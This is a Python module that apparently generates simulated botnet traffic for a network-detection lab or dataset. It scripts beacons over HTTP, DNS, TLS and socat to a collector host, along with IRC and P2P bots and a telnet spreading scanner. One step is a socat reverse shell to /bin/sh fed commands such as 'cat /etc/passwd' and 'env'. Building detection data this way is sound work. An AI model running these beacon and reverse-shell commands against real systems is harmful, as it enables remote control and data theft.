"""Machines that report to a master, wait for its commands, and look for more of their kind."""

from shlex import quote

from attacks.aim import collector_of
from attacks.attack import SCRATCH, Campaign, Rule, attack
from attacks.collector import COMMAND_DOMAIN, listener, name_server, through_resolver
from attacks.steps import program, script, script_text, tool
from attacks.words import agent

_PAGES = ("/gate.php", "/api/v1/ping", "/index.php?id=7", "/jquery.min.js", "/submit", "/updates/check", "/pixel.gif")


class _Bot:
    """A client, its master, and when it reports."""

    def __init__(self, chance, world, slow=False):
        self.client = world.compromised if chance.random() < 0.5 else chance.choice(world.clients)
        self.master = collector_of(chance, world)
        if slow:
            self.period, self.count = chance.randint(15, 60), chance.randint(20, 35)
            self.count = min(self.count, 2000 // self.period)
        else:
            self.period = round(chance.uniform(3, 7), 1)
            self.count = max(6, int(chance.uniform(28, 40) // self.period))
        self.jitter = chance.choice((0, 0.05, 0.1, 0.2, 0.3, 0.5))
        self.pauses = [
            round(self.period * (1 + self.jitter * chance.uniform(-1, 1)), 2) for _ in range(self.count - 1)
        ] + [0]
        self.seconds = 2390 if slow else 57
        self.seed = chance.randrange(1 << 30)

    def campaign(self, steps, port, proto="tcp", least=20, rules=None):
        rules = rules or (Rule(self.client.ip, self.master, str(port), proto),)
        return Campaign(tuple(steps), tuple(rules), (self.client.ip,), (self.master,), least_packets=least)

    def loop(self, commands, **more):
        """One command, a pause, the next."""
        text = [f"{command}; sleep {pause}" for command, pause in zip(commands, self.pauses)]
        step = script(self.client, "bot.sh", pause=1.5, seconds=self.seconds, good=(0, None), **more)
        return step, {"bot.sh": script_text(*text, "exit 0")}


def _web_beacon(chance, world, name, slow=False):
    bot = _Bot(chance, world, slow)
    tls = chance.random() < 0.4
    port = chance.choice((443, 8443) if tls else (80, 8080, 8000))
    url = f"{'https' if tls else 'http'}://{bot.master}:{port}"
    page = chance.choice(_PAGES)
    most = chance.choice((0, 60, 300, 1200))
    commands = []
    for _ in range(bot.count):
        body = chance.randbytes(chance.randint(most // 2, most)).hex()
        commands.append(_WEB[name](url + page, body, quote(agent_of(chance, bot))))
    server = listener(world, "https" if tls else "http", bot.master, port, "--seed", bot.seed)
    step, files = bot.loop(commands)
    campaign = bot.campaign((server, step), port, least=6 * bot.count)
    return _with_files(campaign, files)


def agent_of(chance, bot):
    """The same program asks each time, so it has the same name each time."""
    bot.agent = getattr(bot, "agent", None) or agent(chance)
    return bot.agent


def _with_files(campaign, files):
    campaign.files.update(files)
    return campaign


def _curl(url, body, name):
    data = f"--data-binary {body}" if body else ""
    return f"curl -k -s -o /dev/null -m 5 -A {name} {data} {url}"


def _wget(url, body, name):
    data = f"--post-data={body}" if body else ""
    return f"wget -q --no-check-certificate -O /dev/null -t 1 -T 5 -U {name} {data} {url}"


_WEB = {"curl": _curl, "wget": _wget}


@attack("botnet", "Beacon", "curl", "http")
def curl_beacon(chance, world):
    return _web_beacon(chance, world, "curl")


@attack("botnet", "Beacon", "wget", "http")
def wget_beacon(chance, world):
    return _web_beacon(chance, world, "wget")


@attack("botnet", "Beacon", "curl", "http-slow", seconds=2400, slow=True)
def slow_curl_beacon(chance, world):
    return _web_beacon(chance, world, "curl", slow=True)


@attack("botnet", "Beacon", "dig", "dns")
def dns_beacon(chance, world):
    """Questions about names that nobody has asked for before; the answers are the commands."""
    return _dns_beacon(chance, world)


@attack("botnet", "Beacon", "dig", "dns-slow", seconds=2400, slow=True)
def slow_dns_beacon(chance, world):
    return _dns_beacon(chance, world, slow=True)


def _dns_beacon(chance, world, slow=False):
    bot = _Bot(chance, world, slow)
    kinds = chance.choice((("TXT",), ("A",), ("A", "TXT"), ("MX", "CNAME"), ("AAAA",)))
    length = chance.choice((4, 8, 16, 28))
    identity = f"{chance.getrandbits(24):06x}"
    infra = world["infra"].ip
    commands = [
        f"dig +tries=1 +time=3 +noall @{infra} {chance.choice(kinds)}"
        f" {chance.randbytes(length).hex()}.{identity}.{COMMAND_DOMAIN}"
        for _ in range(bot.count)
    ]
    step, files = bot.loop(commands)
    rules = through_resolver(world, bot.client, 1)
    return _with_files(
        bot.campaign((name_server(world, 1, bot.seed), step), 53, least=3 * bot.count, rules=rules), files
    )


def _own_beacon(chance, world, kind, slow=False, ports=(4444, 8081, 9001, 443)):
    bot = _Bot(chance, world, slow)
    port = chance.choice((*ports, chance.randint(1024, 60000)))
    words = ["--kind", kind, "--target", bot.master, "--port", port, "--count", bot.count, "--period", bot.period]
    words += ["--jitter", bot.jitter, "--bytes", chance.choice((16, 64, 200, 900)), "--seed", bot.seed]
    if chance.random() < 0.35:
        words.append("--keep")
    step = program(bot.client, "beacon", *words, pause=1.5, seconds=bot.seconds, good=(0, None))
    server = listener(world, kind, bot.master, port, "--seed", bot.seed)
    proto = "udp" if kind == "udp" else "tcp"
    return bot.campaign((server, step), port, proto, least=2 * bot.count)


@attack("botnet", "Beacon", "beacon", "tcp")
def tcp_beacon(chance, world):
    return _own_beacon(chance, world, chance.choice(("tcp", "tls")))


@attack("botnet", "Beacon", "beacon", "udp")
def udp_beacon(chance, world):
    return _own_beacon(chance, world, "udp", ports=(53, 123, 443, 6667))


@attack("botnet", "Beacon", "beacon", "tcp-slow", seconds=2400, slow=True)
def slow_tcp_beacon(chance, world):
    return _own_beacon(chance, world, chance.choice(("tcp", "tls", "udp")), slow=True)


@attack("botnet", "IRCBot", "irc-bot", "irc")
def irc_bot(chance, world):
    bot = _Bot(chance, world)
    port = chance.choice((6667, 6667, 6660, 7000, 443, 8080))
    channel = f"#{chance.choice(('d', 'x0', 'nix', 'rbot'))}"
    pauses = chance.choice(("2-5", "3-9", "1-3"))
    common = ("--port", port, "--channel", channel, "--seed", bot.seed)
    server = program(
        world["collector"],
        "irc_server",
        "--bind",
        bot.master,
        "--pauses",
        pauses,
        *common,
        background=True,
        good=(0, None),
    )
    seconds = chance.randint(25, 50)
    talk = program(bot.client, "irc_bot", "--target", bot.master, "--seconds", seconds, *common, pause=1.5, seconds=57)
    return bot.campaign((server, talk), port)


@attack("botnet", "BotSpread", "telnet-spread", "telnet")
def telnet_spread(chance, world):
    """A taken-over machine looks for others of its kind, at home and outside."""
    return _spread(chance, world, rate=chance.randint(8, 80), seconds=chance.randint(15, 45))


@attack("botnet", "BotSpread", "telnet-spread", "telnet-slow", seconds=2400, slow=True)
def slow_telnet_spread(chance, world):
    return _spread(chance, world, rate=round(chance.uniform(0.1, 0.4), 2), seconds=chance.randint(500, 1500))


def _spread(chance, world, rate, seconds):
    bot = _Bot(chance, world)
    outside = [network for network in world.outside if ":" not in network]
    inside = [network for network in world.inside if ":" not in network]
    # Inside alone there is hardly anybody to answer: most probes would go no further than a question for an address.
    networks = chance.choice((outside, outside + inside))
    spared = [world["infra"].ip, bot.client.ip, bot.client.gateway4]
    words = ("--networks", ",".join(networks), "--spare", ",".join(spared), "--rate", rate, "--seconds", seconds)
    step = program(bot.client, "telnet_spread", *words, "--seed", bot.seed, pause=1, seconds=seconds + 10)
    # Beside it some of the swarm have telnet open.
    server = program(
        world["swarm"],
        "listener",
        *("--kind", "tcp", "--bind", "0.0.0.0", "--port", 23, "--scratch", SCRATCH, "--seed", bot.seed),
        background=True,
        good=(0, None),
    )
    rule = Rule(bot.client.ip, ";".join(networks), "23;2323", "tcp")
    return Campaign((server, step), (rule,), (bot.client.ip,), tuple(networks), least_packets=20)


@attack("botnet", "P2PBot", "p2p-bot", "p2p")
def p2p_bot(chance, world):
    bot = _Bot(chance, world)
    peers = chance.sample(world["swarm"].v4, chance.randint(6, 14))
    port = chance.randint(10_000, 60_000)
    seconds = chance.randint(25, 50)
    common = ("--port", port, "--seed", bot.seed)
    there = program(
        world["swarm"],
        *("p2p_bot", "--bind", ",".join(peers[: len(peers) * 2 // 3]), "--seconds", seconds + 5, *common),
        background=True,
        good=(0, None),
    )
    words = ("--bind", bot.client.ip, "--peers", ",".join(peers), "--rate", round(chance.uniform(0.5, 4), 1))
    here = program(bot.client, "p2p_bot", *words, "--seconds", seconds, *common, pause=1, seconds=57)
    rule = Rule(bot.client.ip, ";".join(peers), str(port), "udp")
    return Campaign((there, here), (rule,), (bot.client.ip, *peers), (bot.client.ip,), least_packets=12)


@attack("botnet", "Beacon", "openssl", "tls")
def openssl_beacon(chance, world):
    bot = _Bot(chance, world)
    port = chance.choice((443, 8443, 4443, 993))
    commands = [
        f"(echo {chance.randbytes(chance.randint(8, 100)).hex()}; sleep 0.6) |"
        f" timeout 4 openssl s_client -quiet -no_ign_eof -nocommands -connect {bot.master}:{port}"
        for _ in range(bot.count)
    ]
    step, files = bot.loop(commands)
    server = listener(world, "tls", bot.master, port, "--seed", bot.seed)
    return _with_files(bot.campaign((server, step), port, least=6 * bot.count), files)


@attack("botnet", "Beacon", "socat", "tcp")
def socat_beacon(chance, world):
    bot = _Bot(chance, world)
    port = chance.choice((4444, 8081, 1337, 53))
    kind = chance.choice(("TCP", "TCP", "UDP"))
    commands = [
        f"echo {chance.randbytes(chance.randint(8, 100)).hex()} | socat -t 1 -T 3 - {kind}:{bot.master}:{port}"
        for _ in range(bot.count)
    ]
    step, files = bot.loop(commands)
    server = listener(world, kind.lower(), bot.master, port, "--seed", bot.seed)
    return _with_files(bot.campaign((server, step), port, kind.lower(), least=2 * bot.count), files)


@attack("botnet", "ReverseShell", "socat", "reverse-shell")
def reverse_shell(chance, world):
    """A shell that calls home; its owner types."""
    bot = _Bot(chance, world)
    port = chance.choice((4444, 443, 1337, 9001))
    words = " ".join(f"echo {word}; sleep {round(chance.uniform(0.5, 4), 1)};" for word in chance.sample(_TYPED, 8))
    owner = tool(
        world["collector"],
        *("sh", "-c", f"({words} echo exit) | nc -n -l -s {bot.master} -p {port}"),
        background=True,
        good=(0, None),
    )
    shell = f"socat -T 10 TCP:{bot.master}:{port} EXEC:/bin/sh,stderr"
    step = tool(bot.client, "sh", "-c", shell, pause=1.5, seconds=50, good=(0, 1, None))
    return bot.campaign((owner, step), port, least=15)


_TYPED = (
    "id",
    "uname -a",
    "'ls -la /'",
    "'cat /etc/passwd'",
    "'ip addr'",
    "'ps aux'",
    "whoami",
    "df",
    "env",
    "date",
    "pwd",
)
